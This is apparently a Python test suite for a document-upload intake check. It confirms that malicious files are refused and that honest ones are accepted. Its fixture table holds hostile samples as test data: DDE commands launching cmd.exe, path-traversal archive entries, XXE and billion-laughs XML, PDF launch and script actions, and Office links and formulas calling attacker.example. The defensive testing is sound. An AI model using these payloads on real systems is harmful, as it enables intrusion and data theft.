"""What is refused at the door, why, and that nothing of it stays."""

import io
import os
import zipfile
from pathlib import Path

import pytest
from django.core.files.base import ContentFile, File

from portal.documents import intake
from portal.documents.refusals import FileRefused
from tests.portal.documents import specimens as make

HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
ZIP = make.archive({"payload.txt": b"hidden"})
DOCM_TYPE = b"application/vnd.ms-word.document.macroEnabled.main+xml"
DOCX_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _macro_type(content):
    return content.replace(DOCX_TYPE, DOCM_TYPE)


HOSTILE = {
    "no bytes": ("a.pdf", lambda: b"", "empty"),
    "no extension": ("抢险名单", lambda: b"text", "type_not_accepted"),
    "a program": ("安装.exe", lambda: b"MZ", "type_not_accepted"),
    "a program behind a second extension": ("通知.pdf.exe", lambda: b"MZ", "type_not_accepted"),
    "a program behind a direction override": ("甲\u202efdp.exe", lambda: b"MZ", "type_not_accepted"),
    "an old Word file": ("通知.doc", lambda: OLD_OFFICE, "type_not_accepted"),
    "a macro document": ("通知.docm", make.word, "type_not_accepted"),
    "an archive": ("材料.zip", lambda: ZIP, "type_not_accepted"),
    "an SVG with a script": ("图.svg", lambda: SVG, "type_not_accepted"),
    "a web page": ("页.html", lambda: HTML, "type_not_accepted"),
    "a web page named pdf": ("页.pdf", lambda: HTML, "content_mismatch"),
    "a web page named txt": ("页.txt", lambda: HTML, "content_mismatch"),
    "an SVG named png": ("图.png", lambda: SVG, "content_mismatch"),
    "a GIF with script named jpg": ("图.jpg", lambda: b"GIF89a/*" + HTML, "content_mismatch"),
    "a program named docx": ("通知.docx", lambda: b"MZ" + bytes(600), "content_mismatch"),
    "an encrypted Word file": ("通知.docx", lambda: OLD_OFFICE, "content_mismatch"),
    "a workbook named docx": ("通知.docx", make.sheet, "content_mismatch"),
    "a plain archive named docx": ("通知.docx", lambda: ZIP, "content_mismatch"),
    "a plain archive named ofd": ("通知.ofd", lambda: ZIP, "content_mismatch"),
    "an OFD without a root element": ("a.ofd", lambda: make.ofd(**{"OFD.xml": b"<x/>"}), "content_mismatch"),
    "a binary named txt": ("记录.txt", lambda: b"\x7fELF\x02\x01", "content_mismatch"),
    "control characters in a text": ("记录.txt", lambda: b"abc\x1b[2Jdef", "content_mismatch"),
    "a text in UTF-16": ("记录.txt", lambda: "防汛".encode("utf-16"), "encoding"),
    "the scanner test string": ("记录.txt", lambda: make.SCANNER_TEST, "malware"),
    "a bomb in a docx": ("a.docx", make.bomb, "unpacks_too_large"),
    "a claim of four gigabytes": ("a.docx", lambda: make.claiming_size(make.word(), 2**32 - 2), "unpacks_too_large"),
    "overlapping entries": ("a.docx", make.overlapping, "unpacks_too_large"),
    "too many entries": (
        "a.xlsx",
        lambda: make.repacked(make.sheet(), put={f"xl/media/{n}.xml": b"" for n in range(5_001)}),
        "too_many_entries",
    ),
    "an entry that climbs out": (
        "a.docx",
        lambda: make.repacked(make.word(), put={"../../etc/cron": b""}),
        "unsafe_entry",
    ),
    "an absolute entry": ("a.docx", lambda: make.repacked(make.word(), put={"/etc/cron": b""}), "unsafe_entry"),
    "a backslash entry": ("a.xlsx", lambda: make.repacked(make.sheet(), put={"..\\x": b""}), "unsafe_entry"),
    "a symbolic link": ("a.docx", lambda: make.with_symlink(make.word()), "unsafe_entry"),
    "one name twice": ("a.docx", lambda: make.with_same_name_twice(make.word()), "unsafe_entry"),
    "a locked entry": ("a.docx", lambda: make.encrypted_flag(make.word()), "encrypted"),
    "a picture before the package": ("a.docx", lambda: make.picture() + make.word(), "content_mismatch"),
    "a script behind the package": ("a.docx", lambda: make.word() + HTML, "polyglot"),
    "half a package": ("a.docx", lambda: make.word()[:4_000], "damaged"),
    "billion laughs": (
        "a.docx",
        lambda: make.with_doctype(make.word(), "word/document.xml", make.BILLION_LAUGHS),
        "unsafe_xml",
    ),
    "an external entity": (
        "a.xlsx",
        lambda: make.with_doctype(make.sheet(), "xl/workbook.xml", make.EXTERNAL_ENTITY),
        "unsafe_xml",
    ),
    "an external entity in a part without an honest name": (
        "a.docx",
        lambda: make.repacked(make.word(), put={"word/data.dat": make.EXTERNAL_ENTITY + b"<a/>"}),
        "unsafe_xml",
    ),
    "an external entity in an OFD": (
        "a.ofd",
        lambda: make.with_doctype(make.ofd(), "OFD.xml", make.EXTERNAL_ENTITY),
        "unsafe_xml",
    ),
    "a script in an OFD": ("a.ofd", lambda: make.ofd(**{"Doc_0/run.js": b"x"}), "embedded_program"),
    "a macro project": ("a.docx", lambda: make.repacked(make.word(), put={"word/vbaProject.bin": b"x"}), "macro"),
    "a macro type": (
        "a.docx",
        lambda: make.repacked(make.word(), change={"[Content_Types].xml": _macro_type}),
        "macro",
    ),
    "an old macro sheet": (
        "a.xlsx",
        lambda: make.repacked(make.sheet(), put={"xl/macrosheets/s.xml": b"<a/>"}),
        "macro",
    ),
    "an embedded object": (
        "a.docx",
        lambda: make.repacked(make.word(), put={"word/embeddings/oleObject1.bin": b"x"}),
        "embedded_program",
    ),
    "an embedded workbook with macros": (
        "a.docx",
        lambda: make.repacked(
            make.word(),
            put={"word/embeddings/s.xlsx": make.repacked(make.sheet(), put={"xl/vbaProject.bin": b"x"})},
        ),
        "macro",
    ),
    "an external template": (
        "a.docx",
        lambda: make.word_with_relationship("attachedTemplate", "https://attacker.example/t.dotm"),
        "external_template",
    ),
    "an external picture": (
        "a.docx",
        lambda: make.word_with_relationship("image", "https://attacker.example/spy.png"),
        "external_part",
    ),
    "a link to a share": (
        "a.docx",
        lambda: make.word_with_relationship("hyperlink", "file://attacker/share/x.exe"),
        "local_link",
    ),
    "a script link": ("a.docx", lambda: make.word_with_relationship("hyperlink", "javascript:alert(1)"), "local_link"),
    "a DDE field": ("a.docx", lambda: make.word_with_body(make.field('DDEAUTO c:\\\\cmd.exe "/k calc"')), "dde"),
    "a DDE field in pieces": ("a.docx", lambda: make.word_with_body(make.field("DD", "EAUTO cmd")), "dde"),
    "a field that reads a file": (
        "a.docx",
        lambda: make.word_with_body(make.field('INCLUDETEXT "c:\\\\secret.txt"')),
        "external_data",
    ),
    "a DDE formula": ("a.xlsx", lambda: make.sheet_with_formula("cmd|'/C calc'!A0"), "dde"),
    "a formula that fetches": (
        "a.xlsx",
        lambda: make.sheet_with_formula('WEBSERVICE("https://attacker.example")'),
        "external_data",
    ),
    "external links in a workbook": (
        "a.xlsx",
        lambda: make.repacked(make.sheet(), put={"xl/externalLinks/externalLink1.xml": b"<a/>"}),
        "external_data",
    ),
    "a PDF with a script": (
        "a.pdf",
        lambda: make.opening_with(make.action("JavaScript", JS="app.alert(1)")),
        "active_content",
    ),
    "a PDF with a script behind escapes": ("a.pdf", make.pdf_with_escaped_script, "active_content"),
    "a PDF with a compressed script": ("a.pdf", make.pdf_with_compressed_script, "active_content"),
    "a PDF that launches": ("a.pdf", lambda: make.link_with(make.action("Launch", F="cmd.exe")), "active_content"),
    "a PDF that sends a form": (
        "a.pdf",
        lambda: make.link_with(make.action("SubmitForm", F="http://x")),
        "active_content",
    ),
    "a PDF that opens an address": (
        "a.pdf",
        lambda: make.opening_with(make.action("URI", URI="https://attacker.example")),
        "active_content",
    ),
    "a PDF with an attachment": ("a.pdf", make.pdf_with_attachment, "embedded_file"),
    "a locked PDF": ("a.pdf", make.locked_pdf, "encrypted"),
    "a PDF with an archive behind it": ("a.pdf", lambda: make.pdf() + ZIP, "polyglot"),
    "a PDF with a page behind it": ("a.pdf", lambda: make.pdf() + HTML, "polyglot"),
    "a PDF with a page in its head": (
        "a.pdf",
        lambda: make.pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
        "polyglot",
    ),
    "a page before the PDF": ("a.pdf", lambda: HTML + make.pdf(), "content_mismatch"),
    "half a PDF": ("a.pdf", lambda: make.pdf()[:300], "damaged"),
    "a PDF of rubbish": ("a.pdf", lambda: b"%PDF-1.7\n" + os.urandom(4_000) + b"\n%%EOF", "damaged"),
    "a PDF bomb": ("a.pdf", make.pdf_bomb, "unpacks_too_large"),
    "a PDF with an enormous picture": ("a.pdf", make.pdf_with_huge_image, "unpacks_too_large"),
    "an enormous picture": ("a.png", make.enormous_png, "too_many_pixels"),
    "a picture with an archive behind it": ("a.png", lambda: make.picture() + ZIP, "polyglot"),
    "a photograph with a script behind it": ("a.jpg", lambda: make.picture("JPEG") + HTML, "polyglot"),
    "half a picture": ("a.png", lambda: make.picture()[:60], "damaged"),
    "half a photograph": ("a.jpg", lambda: make.picture("JPEG")[:200], "damaged"),
}


def everything_under(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_with_a_reason_and_leaves_nothing(case, media_folder):
    name, content, code = HOSTILE[case]
    with pytest.raises(FileRefused) as refusal, intake.received(ContentFile(content(), name=name)):
        pass
    assert refusal.value.code == code, refusal.value.reason
    assert any("\u4e00" <= character <= "\u9fff" for character in refusal.value.reason)
    assert "请" in refusal.value.reason
    assert everything_under(media_folder) == []


SOUND = {
    "a PDF": ("通知.pdf", make.pdf, 1),
    "a PDF that opens at a page": ("通知.pdf", make.opening_at_page, 1),
    "a PDF with a web link": ("通知.pdf", lambda: make.link_with(make.action("URI", URI="https://example.gov.cn")), 1),
    "a PDF in upper case": ("通知.PDF", lambda: make.pdf("a", "b"), 2),
    "a Word file": ("通知.docx", make.word, None),
    "a Word file with a web link": (
        "通知.docx",
        lambda: make.word_with_relationship("hyperlink", "https://example.gov.cn/a"),
        None,
    ),
    "a Word file with a page number field": (
        "通知.docx",
        lambda: make.word_with_body(make.field(" PAGE ", " TOC \\o ")),
        None,
    ),
    "a Word file with a chart's workbook": (
        "通知.docx",
        lambda: make.repacked(make.word(), put={"word/embeddings/Microsoft_Excel_Sheet.xlsx": make.sheet()}),
        None,
    ),
    "a workbook": ("汇总表.xlsx", make.sheet, None),
    "a workbook with formulas": ("汇总表.xlsx", lambda: make.sheet_with_formula("SUM(A1:A3)/'甲 表'!B2"), None),
    "an OFD": ("公文.ofd", make.ofd, None),
    "a PNG": ("照片.png", make.picture, 1),
    "a JPEG": ("照片.jpeg", lambda: make.picture("JPEG"), 1),
    "a progressive JPEG": ("照片.jpg", lambda: make.picture("JPEG", progressive=True), 1),
    "a photograph with a second picture": ("照片.jpg", lambda: make.picture("JPEG") + make.picture("JPEG"), 1),
    "a UTF-8 text": ("笔录.txt", lambda: "问：何时发现？\n答：昨日。".encode(), None),
    "a GBK text": ("笔录.txt", lambda: "问：何时发现？\r\n答：昨日。".encode("gbk"), None),
}


@pytest.mark.parametrize("case", SOUND)
def test_an_honest_file_is_received_with_its_digest_and_pages(case, media_folder):
    name, content, page_count = SOUND[case]
    made = content()
    with intake.received(ContentFile(made, name=name)) as received:
        assert (received.name, received.size) == (name, len(made))
        assert received.findings.page_count == page_count
        assert len(received.digest) == 64
        assert received.stream.read() == made
    assert everything_under(media_folder) == []


def test_a_file_above_the_limit_is_refused_while_it_streams(settings, media_folder):
    settings.UPLOAD_MAX_BYTES = 1024 * 1024

    class Endless(io.RawIOBase):
        """Claims nothing about its length and never ends."""

        given = 0

        def read(self, size=-1):
            self.given += size
            return b"%PDF-1.7" + bytes(size - 8)

        def seek(self, *args):
            return 0

    source = Endless()
    upload = File(source, name="大.pdf")
    upload.size = 10
    with pytest.raises(FileRefused) as refusal, intake.received(upload):
        pass
    assert refusal.value.code == "too_large"
    assert "1 MB" in refusal.value.reason
    assert source.given <= 2 * 1024 * 1024
    assert everything_under(media_folder) == []


def test_broken_pdfs_of_any_shape_never_raise_anything_else(media_folder):
    whole = make.pdf("a", "b")
    shapes = [whole[:cut] + whole[cut + 7 :] for cut in range(9, len(whole) - 7, 23)] + [make.pdf_in_circles()]
    for shape in shapes:
        try:
            with intake.received(ContentFile(shape, name="a.pdf")):
                continue
        except FileRefused:
            continue
    assert everything_under(media_folder) == []


@pytest.mark.full
def test_broken_packages_of_any_shape_never_raise_anything_else(media_folder):
    whole = make.word()
    for cut in range(0, len(whole) - 7, 997):
        try:
            with intake.received(ContentFile(whole[:cut] + b"\xff" * 7 + whole[cut + 7 :], name="a.docx")):
                continue
        except FileRefused:
            continue
    assert everything_under(media_folder) == []


def test_an_archive_inside_the_last_kilobytes_of_a_pdf_is_noticed(media_folder):
    """The archive hides before the end mark, where unpackers still look for it."""
    whole = make.pdf()
    marker = whole.rfind(b"%%EOF")
    hidden = io.BytesIO()
    hidden.write(whole[:marker] + b"%")
    with zipfile.ZipFile(hidden, "a") as archive:
        archive.writestr("payload.exe", b"MZ")
    shape = hidden.getvalue() + b"\n%%EOF\n"
    with pytest.raises(FileRefused), intake.received(ContentFile(shape, name="a.pdf")):
        pass
